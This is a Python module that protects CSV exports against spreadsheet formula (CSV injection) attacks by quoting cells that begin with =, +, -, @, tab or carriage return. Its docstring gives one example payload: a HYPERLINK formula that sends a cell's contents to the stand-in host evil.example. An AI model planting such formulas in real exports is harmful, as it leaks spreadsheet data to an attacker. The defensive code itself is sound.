"""CSV that is safe to open in a spreadsheet: formula-leading cells are neutralised (CSV injection).

Excel, LibreOffice Calc and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, in some versions, a tab or carriage return before one) as a formula. A customer
name, subject, group value or plan line of ``=HYPERLINK("https://evil.example/?"&A2,"open")``
would then run when someone opens an export. Every CSV meterline writes (meter queries, the
portal, invoice lines, the showback report, the accounting export, and so everything the CLI
prints with ``--csv``/``--format csv``) goes through :func:`writer`, which follows OWASP's advice:

* A cell whose text starts with one of ``= + - @ TAB CR`` gets a leading single quote
  (``'=HYPERLINK(...)``); spreadsheets show it as text and never evaluate it. The quote stays
  visible to a plain-text reader: the price OWASP accepts for safety.
* Numbers stay numbers: a cell that is a number in the JSON number grammar (``-5``, ``-0.25``,
  ``-1.5e-7``, the only forms meterline writes for quantities and amounts) is written unchanged,
  since a spreadsheet reads it as a number and a minus sign there starts no formula. ``+5``,
  ``-5+A1`` or ``- 5`` are not in that grammar and are quoted like any other text.
* Quoting of separators, double quotes and line breaks is the ``csv`` module's (RFC 4180).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")


def cell(value: object) -> str:
    """``value`` as CSV cell text that no spreadsheet evaluates (None is the empty cell)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` (``\\n`` line ends) whose every cell goes through :func:`cell`."""

    def __init__(self, out: TextIO) -> None:
        self._inner = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._inner.writerow([cell(v) for v in row])


def writer(out: TextIO) -> SafeWriter:
    """A CSV writer onto ``out`` that neutralises formula-leading cells."""
    return SafeWriter(out)
